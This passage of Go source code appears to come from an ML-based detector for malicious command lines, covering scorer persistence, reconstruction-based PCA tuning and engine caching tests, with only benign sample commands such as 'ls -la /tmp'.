		return nil, fmt.Errorf("tuning: unknown precision %q", p)
	}
	if ps, ok := s.(PrecisionSwitcher); ok {
		return ps.AtPrecision(p)
	}
	r, ok := s.(Replicable)
	if !ok {
		return nil, fmt.Errorf("tuning: scorer %T cannot switch precision", s)
	}
	c := r.Replicate()
	if err := SetScorerPrecision(c, p); err != nil {
		return nil, err
	}
	return c, nil
}

// SetScorerPrecision swaps s's serving engine for a fresh one at precision
// p (same engine configuration otherwise). It must be called before the
// scorer starts serving — the swap is not synchronized against concurrent
// Score calls; hot paths swap whole scorers via the stream layer's
// SwapScorer instead.
func SetScorerPrecision(s Scorer, p model.Precision) error {
	if !p.Valid() {
		return fmt.Errorf("tuning: unknown precision %q", p)
	}
	e := engineOf(s)
	if e == nil {
		return fmt.Errorf("tuning: scorer %T has no serving engine to set precision on", s)
	}
	if p == "" {
		p = model.PrecisionFloat64
	}
	if e.Precision() == p {
		return nil
	}
	swapEngine(s, e.WithPrecision(p))
	return nil
}

// engineOf returns the serving engine of the four method scorers.
func engineOf(s Scorer) *Engine {
	switch sc := s.(type) {
	case *Classifier:
		return sc.engine
	case *RetrievalScorer:
		return sc.engine
	case *ReconsTuner:
		return sc.engine
	case *PCAScorer:
		return sc.engine
	}
	return nil
}

// swapEngine installs e into s; callers have already matched the type via
// engineOf.
func swapEngine(s Scorer, e *Engine) {
	switch sc := s.(type) {
	case *Classifier:
		sc.engine = e
	case *RetrievalScorer:
		sc.engine = e
	case *ReconsTuner:
		sc.engine = e
	case *PCAScorer:
		sc.engine = e
	}
}
