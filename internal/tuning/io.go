// Scorer-head persistence: the artifact layer that splits training from
// serving. Each of the four §III/§IV method scorers decomposes into a
// frozen backbone (saved separately, model.Save) plus a small method head
// — classifier MLP weights and standardizer, fitted PCA, retrieval index,
// reconstruction tuner's final projection. SaveScorerHead persists the
// head; LoadScorerHead rebuilds the exact serving scorer over a restored
// backbone, with the same persistent LRU-cached engine BuildScorer-style
// construction produces, so loaded scorers score byte-identically to
// freshly tuned ones and replicate across shards the same way.
//
// The snapshot is one gob value of plain slices and matrices (no maps), so
// saving the same head twice yields identical bytes — bundle checksums and
// content-derived versions depend on that.

package tuning

import (
	"encoding/gob"
	"fmt"
	"io"

	"clmids/internal/anomaly"
	"clmids/internal/bpe"
	"clmids/internal/linalg"
	"clmids/internal/model"
	"clmids/internal/nn"
	"clmids/internal/tensor"
)

// Method names of the persistable scorers, shared by head snapshots and
// bundle manifests (core.ScorerMethods lists the same values).
const (
	MethodClassifier     = "classifier"
	MethodRetrieval      = "retrieval"
	MethodReconstruction = "reconstruction"
	MethodPCA            = "pca"
)

const headFormat = "clmids-scorer-head v1"

// headSnapshot is the single serialized value: the format header, the
// method discriminator, and exactly one populated section.
type headSnapshot struct {
	Format string
	Method string

	Classifier *classifierHead
	Retrieval  *anomaly.RetrievalState
	Recons     *reconsHead
	PCA        *anomaly.PCADetectorState
}

// classifierHead is the §IV-B head: the two-layer perceptron's weight
// matrices in layer order plus the feature standardizer and pooling mode.
type classifierHead struct {
	MeanPool           bool
	Mean, Std          []float64
	L1W, L1B, L2W, L2B *tensor.Matrix
}

// reconsHead is the §IV-A head: the final fitted projection W. The tuned
// encoder f(·) is the scorer's serving backbone and is saved as the
// bundle's model section, not here.
type reconsHead struct {
	PCA *linalg.PCA
}

// ScorerMethod names the persistence method of a scorer, or "" with false
// for scorer types the artifact layer does not cover.
func ScorerMethod(s Scorer) (string, bool) {
	switch s.(type) {
	case *Classifier:
		return MethodClassifier, true
	case *RetrievalScorer:
		return MethodRetrieval, true
	case *ReconsTuner:
		return MethodReconstruction, true
	case *PCAScorer:
		return MethodPCA, true
	default:
		return "", false
	}
}

// SaveScorerHead writes s's method head to w. The backbone and tokenizer
// are not included: they are shared artifacts the caller persists once
// (model.Save, bpe's Save), and LoadScorerHead takes them back explicitly.
func SaveScorerHead(w io.Writer, s Scorer) error {
	snap := headSnapshot{Format: headFormat}
	switch sc := s.(type) {
	case *Classifier:
		snap.Method = MethodClassifier
		snap.Classifier = &classifierHead{
			MeanPool: sc.meanPool,
			Mean:     sc.std.Mean,
			Std:      sc.std.Std,
			L1W:      sc.head.L1.W.Val, L1B: sc.head.L1.B.Val,
			L2W: sc.head.L2.W.Val, L2B: sc.head.L2.B.Val,
		}
	case *RetrievalScorer:
		st, err := sc.ret.State()
		if err != nil {
			return err
		}
		snap.Method = MethodRetrieval
		snap.Retrieval = st
	case *ReconsTuner:
		snap.Method = MethodReconstruction
		snap.Recons = &reconsHead{PCA: sc.pca}
	case *PCAScorer:
		st, err := sc.det.State()
		if err != nil {
			return err
		}
		snap.Method = MethodPCA
		snap.PCA = st
	default:
		return fmt.Errorf("tuning: scorer %T has no persistable head", s)
	}
	if err := gob.NewEncoder(w).Encode(&snap); err != nil {
		return fmt.Errorf("tuning: encoding %s head: %w", snap.Method, err)
	}
	return nil
}

// LoadScorerHead reads a head written by SaveScorerHead and rebuilds the
// serving scorer over the (frozen) backbone and tokenizer it was trained
// with — for the reconstruction method that backbone is the tuned encoder.
// The returned scorer holds a fresh default-configured LRU-cached engine
// and is Replicable, exactly like a freshly built one. The method name is
// returned so callers can cross-check it against manifest metadata.
func LoadScorerHead(r io.Reader, enc *model.Encoder, tok *bpe.Tokenizer) (Scorer, string, error) {
	return LoadScorerHeadPrec(r, enc, tok, model.PrecisionFloat64)
}

// LoadScorerHeadPrec is LoadScorerHead with the serving engine built at
// the given precision rung — the restore half of quantized bundles. The
// head itself is precision-free (it was trained, and is applied, in
// float64); only the backbone forward runs at prec.
func LoadScorerHeadPrec(r io.Reader, enc *model.Encoder, tok *bpe.Tokenizer, prec model.Precision) (Scorer, string, error) {
	if !prec.Valid() {
		return nil, "", fmt.Errorf("tuning: unknown precision %q", prec)
	}
	var snap headSnapshot
	if err := gob.NewDecoder(r).Decode(&snap); err != nil {
		return nil, "", fmt.Errorf("tuning: decoding scorer head: %w", err)
	}
	if snap.Format != headFormat {
		return nil, "", fmt.Errorf("tuning: unknown scorer-head format %q", snap.Format)
	}
	ecfg := DefaultEngineConfig()
	ecfg.Precision = prec
	engine := NewEngine(enc, tok, ecfg)
	hidden := enc.Config().Hidden
	switch snap.Method {
	case MethodClassifier:
		c, err := restoreClassifier(snap.Classifier, engine, hidden)
		if err != nil {
			return nil, "", err
		}
		return c, snap.Method, nil
	case MethodRetrieval:
		ret, err := anomaly.RestoreRetrieval(snap.Retrieval)
		if err != nil {
			return nil, "", err
		}
		if ret.Dim() != hidden {
			return nil, "", fmt.Errorf("tuning: retrieval index dim %d, backbone hidden %d",
				ret.Dim(), hidden)
		}
		return &RetrievalScorer{engine: engine, ret: ret}, snap.Method, nil
	case MethodReconstruction:
		if snap.Recons == nil {
			return nil, "", fmt.Errorf("tuning: reconstruction head missing payload")
		}
		if err := validLoadedPCA(snap.Recons.PCA, hidden); err != nil {
			return nil, "", fmt.Errorf("tuning: reconstruction head: %w", err)
		}
		return &ReconsTuner{engine: engine, pca: snap.Recons.PCA}, snap.Method, nil
	case MethodPCA:
		det, err := anomaly.RestorePCADetector(snap.PCA)
		if err != nil {
			return nil, "", err
		}
		if det.PCA().Dim() != hidden {
			return nil, "", fmt.Errorf("tuning: PCA head dim %d, backbone hidden %d",
				det.PCA().Dim(), hidden)
		}
		return NewPCAScorer(engine, det), snap.Method, nil
	default:
		return nil, "", fmt.Errorf("tuning: unknown scorer-head method %q", snap.Method)
	}
}

// restoreClassifier validates the deserialized head shapes against the
// backbone and reassembles the inference-only MLP.
func restoreClassifier(h *classifierHead, engine *Engine, hidden int) (*Classifier, error) {
	if h == nil {
		return nil, fmt.Errorf("tuning: classifier head missing payload")
	}
	for name, m := range map[string]*tensor.Matrix{
		"L1 weights": h.L1W, "L1 bias": h.L1B, "L2 weights": h.L2W, "L2 bias": h.L2B,
	} {
		if m == nil || m.Rows < 1 || m.Cols < 1 || len(m.Data) != m.Rows*m.Cols {
			return nil, fmt.Errorf("tuning: classifier head %s malformed", name)
		}
	}
	switch {
	case h.L1W.Rows != hidden:
		return nil, fmt.Errorf("tuning: classifier head input dim %d, backbone hidden %d", h.L1W.Rows, hidden)
	case h.L1B.Rows != 1 || h.L1B.Cols != h.L1W.Cols:
		return nil, fmt.Errorf("tuning: classifier L1 bias %dx%d does not match width %d", h.L1B.Rows, h.L1B.Cols, h.L1W.Cols)
	case h.L2W.Rows != h.L1W.Cols || h.L2W.Cols != 2:
		return nil, fmt.Errorf("tuning: classifier L2 weights %dx%d, want %dx2", h.L2W.Rows, h.L2W.Cols, h.L1W.Cols)
	case h.L2B.Rows != 1 || h.L2B.Cols != 2:
		return nil, fmt.Errorf("tuning: classifier L2 bias %dx%d, want 1x2", h.L2B.Rows, h.L2B.Cols)
	case len(h.Mean) != hidden || len(h.Std) != hidden:
		return nil, fmt.Errorf("tuning: classifier standardizer dims %d/%d, want %d", len(h.Mean), len(h.Std), hidden)
	}
	head := &nn.MLP{
		L1:         &nn.Linear{W: tensor.Var(h.L1W), B: tensor.Var(h.L1B)},
		L2:         &nn.Linear{W: tensor.Var(h.L2W), B: tensor.Var(h.L2B)},
		Activation: tensor.ReLU,
	}
	std := &anomaly.Standardizer{Mean: h.Mean, Std: h.Std}
	return &Classifier{engine: engine, head: head, std: std, meanPool: h.MeanPool}, nil
}

// validLoadedPCA mirrors anomaly's PCA validation for the projection the
// reconstruction head carries directly.
func validLoadedPCA(p *linalg.PCA, hidden int) error {
	if p == nil || p.W == nil {
		return fmt.Errorf("missing projection")
	}
	if p.W.Rows < 1 || p.W.Cols < 1 || len(p.W.Data) != p.W.Rows*p.W.Cols {
		return fmt.Errorf("projection %dx%d backed by %d values", p.W.Rows, p.W.Cols, len(p.W.Data))
	}
	if p.W.Cols != hidden || len(p.Mean) != hidden {
		return fmt.Errorf("projection dim %d (mean %d), backbone hidden %d", p.W.Cols, len(p.Mean), hidden)
	}
	return nil
}
