package tuning

import (
	"fmt"
	"math/rand"

	"clmids/internal/bpe"
	"clmids/internal/linalg"
	"clmids/internal/model"
	"clmids/internal/nn"
	"clmids/internal/tensor"
)

// ReconsConfig controls reconstruction-based tuning (§IV-A).
type ReconsConfig struct {
	// Rounds is the number of alternations between refitting W (PCA) and
	// tuning f(·). The paper reports five suffice.
	Rounds int
	// Epochs of f-tuning per round. Default 1.
	Epochs int
	// LR for the encoder's AdamW. Default 1e-4.
	LR float64
	// BatchSize in lines. Default 16.
	BatchSize int
	// PosPerBatch forces at least this many positive lines into every
	// batch — Eq. (2)'s numerator is otherwise zero and its log undefined.
	// Default 2.
	PosPerBatch int
	// PCAFrac is the fraction of components kept (paper: 0.95).
	PCAFrac float64
	// FitWOnAll fits the PCA projection on all training embeddings instead
	// of benign-labeled ones only. The paper is silent on which embeddings
	// feed the W refit; fitting on benign-labeled lines keeps W from
	// capturing the malicious directions Eq. (2) is pushing away from the
	// subspace, which is what makes in-box errors uniformly large.
	FitWOnAll bool
	// Seed drives shuffling and dropout.
	Seed int64
	// Logf, when non-nil, receives progress lines.
	Logf func(format string, args ...any)
}

// DefaultReconsConfig mirrors the paper's recipe.
func DefaultReconsConfig() ReconsConfig {
	return ReconsConfig{
		Rounds:      5,
		Epochs:      1,
		LR:          1e-4,
		BatchSize:   16,
		PosPerBatch: 2,
		PCAFrac:     0.95,
		Seed:        1,
	}
}

func (c ReconsConfig) withDefaults() ReconsConfig {
	if c.Rounds <= 0 {
		c.Rounds = 5
	}
	if c.Epochs <= 0 {
		c.Epochs = 1
	}
	if c.LR <= 0 {
		c.LR = 1e-4
	}
	if c.BatchSize <= 0 {
		c.BatchSize = 16
	}
	if c.PosPerBatch <= 0 {
		c.PosPerBatch = 2
	}
	if c.PCAFrac <= 0 || c.PCAFrac > 1 {
		c.PCAFrac = 0.95
	}
	return c
}

// ReconsTuner is a trained reconstruction-based detector: the tuned
// encoder f(·) and the final PCA model W. Training is the only phase that
// mutates f; once TrainReconstruction returns, the encoder is frozen, so
// the tuner scores through a persistent LRU-cached inference engine and
// Score is safe for concurrent use.
type ReconsTuner struct {
	engine *Engine
	pca    *linalg.PCA
}

var (
	_ Scorer       = (*ReconsTuner)(nil)
	_ Replicable   = (*ReconsTuner)(nil)
	_ CacheStatser = (*ReconsTuner)(nil)
)

// Replicate returns an independent replica sharing the tuned (now frozen)
// encoder and the fitted PCA; only the engine is replicated, so replicas
// score byte-identically without re-running the §IV-A alternation.
func (r *ReconsTuner) Replicate() Scorer {
	return &ReconsTuner{engine: r.engine.Clone(), pca: r.pca}
}

// CacheStats snapshots the serving engine's embedding-cache counters.
func (r *ReconsTuner) CacheStats() CacheStats { return r.engine.CacheStats() }

// TrainReconstruction runs the alternating optimization of §IV-A.
// It MUTATES enc (the paper fine-tunes f in place); callers wanting to keep
// the pre-trained weights should pass a cloned model.
func TrainReconstruction(enc *model.Encoder, tok *bpe.Tokenizer, lines []string, labels []bool, cfg ReconsConfig) (*ReconsTuner, error) {
	if _, err := checkSupervision(lines, labels); err != nil {
		return nil, err
	}
	c := cfg.withDefaults()
	rng := rand.New(rand.NewSource(c.Seed))
	params := enc.Params()
	opt := nn.NewAdamW(params, c.LR, 0.0)
	encCfg := enc.Config()

	// Pre-encode token sequences once; masking is not used here.
	seqs := make([][]int, len(lines))
	for i, line := range lines {
		seqs[i] = tok.EncodeForModel(line, encCfg.MaxSeqLen)
	}
	var posIdx, negIdx []int
	for i, y := range labels {
		if y {
			posIdx = append(posIdx, i)
		} else {
			negIdx = append(negIdx, i)
		}
	}

	// fitLines selects the embeddings the W-step sees.
	fitLines := lines
	if !c.FitWOnAll {
		fitLines = make([]string, 0, len(negIdx))
		for _, i := range negIdx {
			fitLines = append(fitLines, lines[i])
		}
	}

	var pca *linalg.PCA
	for round := 0; round < c.Rounds; round++ {
		// --- W-step: refit the PCA on current embeddings (SVD in the
		// paper; equivalently the covariance eigenbasis here).
		emb, err := EmbedLines(enc, tok, fitLines)
		if err != nil {
			return nil, fmt.Errorf("tuning: round %d embedding: %w", round, err)
		}
		pca, err = linalg.FitPCA(emb, linalg.PCAOptions{ComponentsFrac: c.PCAFrac})
		if err != nil {
			return nil, fmt.Errorf("tuning: round %d PCA: %w", round, err)
		}
		residual := tensor.Const(pca.ResidualOperator()) // symmetric [H,H]
		negMu := tensor.NewMatrix(1, encCfg.Hidden)
		for j, m := range pca.Mean {
			negMu.Data[j] = -m
		}
		negMuT := tensor.Const(negMu)

		// --- f-step: minimize Eq. (2) with W fixed.
		lossSum, batches := 0.0, 0
		for epoch := 0; epoch < c.Epochs; epoch++ {
			rng.Shuffle(len(negIdx), func(i, j int) { negIdx[i], negIdx[j] = negIdx[j], negIdx[i] })
			rng.Shuffle(len(posIdx), func(i, j int) { posIdx[i], posIdx[j] = posIdx[j], posIdx[i] })
			posAt := 0
			negPer := c.BatchSize - c.PosPerBatch
			if negPer < 1 {
				negPer = 1
			}
			for at := 0; at < len(negIdx); at += negPer {
				end := at + negPer
				if end > len(negIdx) {
					end = len(negIdx)
				}
				rows := append([]int(nil), negIdx[at:end]...)
				y := make([]float64, 0, len(rows)+c.PosPerBatch)
				for range rows {
					y = append(y, 0)
				}
				for p := 0; p < c.PosPerBatch; p++ {
					rows = append(rows, posIdx[posAt%len(posIdx)])
					y = append(y, 1)
					posAt++
				}
				loss, err := reconsBatchLoss(enc, seqs, rows, y, residual, negMuT, rng)
				if err != nil {
					return nil, fmt.Errorf("tuning: round %d batch: %w", round, err)
				}
				if err := loss.Backward(); err != nil {
					return nil, fmt.Errorf("tuning: round %d backward: %w", round, err)
				}
				nn.ClipGradNorm(params, 1.0)
				opt.Step()
				lossSum += loss.Item()
				batches++
			}
		}
		if c.Logf != nil {
			c.Logf("recons: round %d/%d loss %.4f (kept %d/%d components)",
				round+1, c.Rounds, lossSum/float64(batches), pca.Kept(), pca.Dim())
		}
	}

	// Final W from the final f. Tuning is over, so the tuner can hold a
	// cached engine over the now-frozen encoder.
	engine := NewEngine(enc, tok, DefaultEngineConfig())
	emb, err := engine.EmbedLines(fitLines)
	if err != nil {
		return nil, err
	}
	pca, err = linalg.FitPCA(emb, linalg.PCAOptions{ComponentsFrac: c.PCAFrac})
	if err != nil {
		return nil, err
	}
	return &ReconsTuner{engine: engine, pca: pca}, nil
}

// reconsBatchLoss builds Eq. (2) for one batch:
// −log( Σ_i L_i·y_i / Σ_i L_i ), with L_i = ‖M·(f(t_i)−μ)‖².
func reconsBatchLoss(enc *model.Encoder, seqs [][]int, rows []int, y []float64,
	residual, negMu *tensor.Tensor, rng *rand.Rand) (*tensor.Tensor, error) {
	batchSeqs := make([][]int, len(rows))
	for i, r := range rows {
		batchSeqs[i] = seqs[r]
	}
	emb, err := enc.MeanPoolTensor(model.NewBatch(batchSeqs), true, rng)
	if err != nil {
		return nil, err
	}
	centered := tensor.AddRowVec(emb, negMu)
	r := tensor.MatMulT(centered, residual) // M symmetric: rowwise M·(f−μ)
	l := tensor.RowSum(tensor.Mul(r, r))    // [B,1] reconstruction errors

	eps := tensor.NewMatrix(l.Rows(), 1)
	eps.Fill(1e-8)
	lSafe := tensor.Add(l, tensor.Const(eps))

	yMat := tensor.Const(tensor.FromSlice(len(y), 1, append([]float64(nil), y...)))
	num := tensor.SumAll(tensor.Mul(lSafe, yMat))
	den := tensor.SumAll(lSafe)
	return tensor.Scale(tensor.Log(tensor.Div(num, den)), -1), nil
}

// Score implements Scorer: Eq. (1) under the tuned f and final W.
func (r *ReconsTuner) Score(lines []string) ([]float64, error) {
	emb, err := r.engine.EmbedLines(lines)
	if err != nil {
		return nil, err
	}
	return r.pca.ReconstructionErrors(emb), nil
}

// PCA exposes the final fitted projection.
func (r *ReconsTuner) PCA() *linalg.PCA { return r.pca }
