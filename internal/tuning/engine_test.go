package tuning

import (
	"fmt"
	"testing"

	"clmids/internal/bpe"
	"clmids/internal/tensor"
)

// engineFixtureLines returns a scoring workload with deliberate duplicates
// and whitespace variants of the same command.
func engineFixtureLines(f *fixture) []string {
	lines := append([]string(nil), f.trainX[:40]...)
	lines = append(lines, f.trainX[0], f.trainX[1]) // exact duplicates
	lines = append(lines, "  "+f.trainX[2]+"  ")    // whitespace variant
	lines = append(lines, f.testPos[:5]...)
	lines = append(lines, f.testPos[0])
	return lines
}

// TestEngineMatchesTapePath is the end-to-end golden test: the batched,
// deduped, parallel engine must reproduce the tape path's embeddings
// exactly for every line, in order, for both feature kinds.
func TestEngineMatchesTapePath(t *testing.T) {
	f := getFixture(t)
	lines := engineFixtureLines(f)

	for _, tc := range []struct {
		name string
		tape func() (*tensor.Matrix, error)
		eng  func(e *Engine) (*tensor.Matrix, error)
	}{
		{"mean-pool", func() (*tensor.Matrix, error) { return EmbedLinesTape(f.mdl.Encoder, f.tok, lines) },
			func(e *Engine) (*tensor.Matrix, error) { return e.EmbedLines(lines) }},
		{"cls", func() (*tensor.Matrix, error) { return CLSLinesTape(f.mdl.Encoder, f.tok, lines) },
			func(e *Engine) (*tensor.Matrix, error) { return e.CLSLines(lines) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			want, err := tc.tape()
			if err != nil {
				t.Fatal(err)
			}
			engine := NewEngine(f.mdl.Encoder, f.tok, DefaultEngineConfig())
			for pass := 0; pass < 2; pass++ { // pass 1 serves from the LRU cache
				got, err := tc.eng(engine)
				if err != nil {
					t.Fatal(err)
				}
				if !want.SameShape(got) {
					t.Fatalf("pass %d: shape %dx%d, want %dx%d", pass, got.Rows, got.Cols, want.Rows, want.Cols)
				}
				for i := range want.Data {
					if want.Data[i] != got.Data[i] {
						t.Fatalf("pass %d: element %d: engine %g, tape %g", pass, i, got.Data[i], want.Data[i])
					}
				}
			}
		})
	}
}

// TestEngineSmallBudgets forces many tiny batches so the scheduler's
// bucketing, budget splitting, and scatter-back all get exercised.
func TestEngineSmallBudgets(t *testing.T) {
	f := getFixture(t)
	lines := engineFixtureLines(f)
	want, err := EmbedLinesTape(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	cfg := EngineConfig{BatchLines: 2, BatchTokens: 1, Workers: 3, CacheLines: 8}
	got, err := NewEngine(f.mdl.Encoder, f.tok, cfg).EmbedLines(lines)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want.Data {
		if want.Data[i] != got.Data[i] {
			t.Fatalf("element %d: engine %g, tape %g", i, got.Data[i], want.Data[i])
		}
	}
}

// TestEngineCacheEviction pins the LRU behavior: capacity bounds the entry
// count and evicted lines still score correctly on recompute.
func TestEngineCacheEviction(t *testing.T) {
	f := getFixture(t)
	cfg := DefaultEngineConfig()
	cfg.CacheLines = 4
	engine := NewEngine(f.mdl.Encoder, f.tok, cfg)

	lines := f.trainX[:12]
	want, err := EmbedLinesTape(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	for pass := 0; pass < 3; pass++ {
		got, err := engine.EmbedLines(lines)
		if err != nil {
			t.Fatal(err)
		}
		for i := range want.Data {
			if want.Data[i] != got.Data[i] {
				t.Fatalf("pass %d: element %d mismatch", pass, i)
			}
		}
		if n := engine.cache.len(); n > 4 {
			t.Fatalf("pass %d: cache holds %d entries, cap 4", pass, n)
		}
	}
}

// TestEngineEmptyInput pins the streaming contract: flushing an empty
// window is normal, so empty input yields a 0-row matrix, not an error.
func TestEngineEmptyInput(t *testing.T) {
	f := getFixture(t)
	engine := NewEngine(f.mdl.Encoder, f.tok, EngineConfig{})
	for _, fn := range []func([]string) (*tensor.Matrix, error){engine.EmbedLines, engine.CLSLines} {
		got, err := fn(nil)
		if err != nil {
			t.Fatalf("empty input: %v", err)
		}
		if got.Rows != 0 || got.Cols != f.mdl.Encoder.Config().Hidden {
			t.Fatalf("empty input shape %dx%d, want 0x%d", got.Rows, got.Cols, f.mdl.Encoder.Config().Hidden)
		}
	}
}

func TestNormalizeLine(t *testing.T) {
	cases := [][2]string{
		{"ls  -la   /tmp", "ls -la /tmp"},
		{"  ls -la /tmp\t", "ls -la /tmp"},
		{"ls -la /tmp", "ls -la /tmp"},
	}
	for _, c := range cases {
		if got := normalizeLine(c[0]); got != c[1] {
			t.Errorf("normalizeLine(%q) = %q, want %q", c[0], got, c[1])
		}
	}
}

func TestLRUCache(t *testing.T) {
	c := newLRUCache[float64](2)
	c.put("a", []float64{1})
	c.put("b", []float64{2})
	if _, ok := c.get("a"); !ok {
		t.Fatal("a missing")
	}
	c.put("c", []float64{3}) // evicts b (a was refreshed)
	if _, ok := c.get("b"); ok {
		t.Error("b should have been evicted")
	}
	if _, ok := c.get("a"); !ok {
		t.Error("a should survive")
	}
	if row, ok := c.get("c"); !ok || row[0] != 3 {
		t.Errorf("c = %v, %v", row, ok)
	}
	if c.len() != 2 {
		t.Errorf("len = %d, want 2", c.len())
	}
	// Stored rows are copies: mutating the source must not corrupt the
	// cache.
	src := []float64{9}
	c.put("d", src)
	src[0] = -1
	if row, _ := c.get("d"); row[0] != 9 {
		t.Errorf("cache shares caller memory: %v", row)
	}
}

// TestEngineEncodedCache pins the encoded-line LRU tier: with the
// embedding cache off, repeat calls must serve token sequences from the
// encoded cache (hits accrue, entries stay bounded) and both feature kinds
// share the same entries — all without changing a single output bit.
func TestEngineEncodedCache(t *testing.T) {
	f := getFixture(t)
	lines := engineFixtureLines(f)
	want, err := EmbedLinesTape(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	cfg := EngineConfig{CacheLines: -1, EncodedCacheLines: 64}
	engine := NewEngine(f.mdl.Encoder, f.tok, cfg)
	reps := int64(engine.CacheStats().EncodedMisses) // 0 before traffic
	if reps != 0 {
		t.Fatalf("fresh engine has encoded misses: %d", reps)
	}
	for pass := 0; pass < 2; pass++ {
		got, err := engine.EmbedLines(lines)
		if err != nil {
			t.Fatal(err)
		}
		for i := range want.Data {
			if want.Data[i] != got.Data[i] {
				t.Fatalf("pass %d: element %d mismatch", pass, i)
			}
		}
	}
	st := engine.CacheStats()
	if st.EncodedHits == 0 {
		t.Fatal("second pass never hit the encoded cache")
	}
	if st.EncodedMisses == 0 || st.EncodedHits != st.EncodedMisses {
		t.Fatalf("want one hit per first-pass miss, got hits=%d misses=%d", st.EncodedHits, st.EncodedMisses)
	}
	if st.EncodedEntries == 0 || st.EncodedEntries > 64 {
		t.Fatalf("encoded entries %d outside (0, 64]", st.EncodedEntries)
	}
	// CLS rows need the same token sequences: the encoded cache is shared
	// across feature kinds, so this call is all hits.
	if _, err := engine.CLSLines(lines); err != nil {
		t.Fatal(err)
	}
	st2 := engine.CacheStats()
	if st2.EncodedMisses != st.EncodedMisses {
		t.Fatalf("CLS pass re-encoded %d lines", st2.EncodedMisses-st.EncodedMisses)
	}
}

// TestEngineEncodedCacheBounded forces eviction pressure on a tiny encoded
// cache and checks correctness survives it.
func TestEngineEncodedCacheBounded(t *testing.T) {
	f := getFixture(t)
	var lines []string
	for i := 0; i < 60; i++ {
		lines = append(lines, fmt.Sprintf("tail -n %d /var/log/app%d.log", i, i))
	}
	cfg := EngineConfig{CacheLines: -1, EncodedCacheLines: 4, Workers: 4}
	engine := NewEngine(f.mdl.Encoder, f.tok, cfg)
	want, err := EmbedLinesTape(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	for pass := 0; pass < 2; pass++ {
		got, err := engine.EmbedLines(lines)
		if err != nil {
			t.Fatal(err)
		}
		for i := range want.Data {
			if want.Data[i] != got.Data[i] {
				t.Fatalf("pass %d: element %d mismatch", pass, i)
			}
		}
		if n := engine.CacheStats().EncodedEntries; n > 4 {
			t.Fatalf("pass %d: encoded cache holds %d entries, cap 4", pass, n)
		}
	}
}

// TestEngineEstimatorLazyEncode runs the estimator-bucketed path (workers
// encode lazily) against the tape path: outputs must stay byte-identical
// across cache configurations and tight batch budgets.
func TestEngineEstimatorLazyEncode(t *testing.T) {
	f := getFixture(t)
	lines := engineFixtureLines(f)
	want, err := EmbedLinesTape(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	est, err := bpe.FitEstimator(f.tok, f.trainX)
	if err != nil {
		t.Fatalf("FitEstimator: %v", err)
	}
	f.tok.SetEstimator(est)
	t.Cleanup(func() { f.tok.SetEstimator(nil) })
	for _, cfg := range []EngineConfig{
		{},
		{CacheLines: -1, EncodedCacheLines: 32},
		{CacheLines: -1, EncodedCacheLines: -1},
		{BatchLines: 2, BatchTokens: 1, Workers: 3, CacheLines: 8},
	} {
		engine := NewEngine(f.mdl.Encoder, f.tok, cfg)
		for pass := 0; pass < 2; pass++ {
			got, err := engine.EmbedLines(lines)
			if err != nil {
				t.Fatal(err)
			}
			for i := range want.Data {
				if want.Data[i] != got.Data[i] {
					t.Fatalf("cfg %+v pass %d: element %d: engine %g, tape %g",
						cfg, pass, i, got.Data[i], want.Data[i])
				}
			}
		}
	}
}

// TestEngineEstimatorAdvisoryOnly is the invariant the whole estimator
// design leans on: bucketing is the only consumer of the estimate, so even
// a wildly wrong estimator — one that mis-buckets every line in either
// direction — must leave every output byte identical.
func TestEngineEstimatorAdvisoryOnly(t *testing.T) {
	f := getFixture(t)
	lines := engineFixtureLines(f)
	want, err := EmbedLinesTape(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.tok.SetEstimator(nil) })
	for name, bias := range map[string]float64{"always-huge": 1e6, "always-one": -1e6} {
		bad := &bpe.Estimator{}
		bad.Weights[0] = bias
		f.tok.SetEstimator(bad)
		// Tight budgets so mis-bucketing actually changes batch composition.
		cfg := EngineConfig{BatchLines: 3, BatchTokens: 8, Workers: 4, CacheLines: -1, EncodedCacheLines: -1}
		got, err := NewEngine(f.mdl.Encoder, f.tok, cfg).EmbedLines(lines)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for i := range want.Data {
			if want.Data[i] != got.Data[i] {
				t.Fatalf("%s: element %d: engine %g, tape %g — estimate leaked into scores",
					name, i, got.Data[i], want.Data[i])
			}
		}
	}
}

// TestEngineManyLines pushes a larger deduplicated workload through the
// scheduler to shake out races (run with -race in CI).
func TestEngineManyLines(t *testing.T) {
	f := getFixture(t)
	var lines []string
	for i := 0; i < 300; i++ {
		lines = append(lines, fmt.Sprintf("ls -la /srv/app%d", i%37))
	}
	engine := NewEngine(f.mdl.Encoder, f.tok, EngineConfig{Workers: 4, CacheLines: 16})
	got, err := engine.EmbedLines(lines)
	if err != nil {
		t.Fatal(err)
	}
	want, err := EmbedLinesTape(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want.Data {
		if want.Data[i] != got.Data[i] {
			t.Fatalf("element %d mismatch", i)
		}
	}
}

// TestCacheStatsZeroTraffic guards the HitRate division edge: a scorer
// that has served no traffic (0 hits + 0 misses — exactly what a /stats
// scrape sees right after a cold start or a hot swap) reports 0, not NaN.
func TestCacheStatsZeroTraffic(t *testing.T) {
	var zero CacheStats
	if got := zero.HitRate(); got != 0 {
		t.Fatalf("zero-traffic hit rate %v, want 0", got)
	}
	if got := (CacheStats{Hits: 3}).HitRate(); got != 1 {
		t.Fatalf("all-hit rate %v, want 1", got)
	}
	if got := (CacheStats{Misses: 5}).HitRate(); got != 0 {
		t.Fatalf("all-miss rate %v, want 0", got)
	}
}
