package tuning

import (
	"fmt"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

// genLog builds a random multi-user timestamped log.
func genLog(r *rand.Rand) []TimedLine {
	n := 1 + r.Intn(80)
	out := make([]TimedLine, n)
	clock := int64(0)
	for i := range out {
		clock += int64(1 + r.Intn(400))
		out[i] = TimedLine{
			User: fmt.Sprintf("u%d", r.Intn(4)),
			Time: clock,
			Line: fmt.Sprintf("cmd%d arg%d", r.Intn(20), r.Intn(5)),
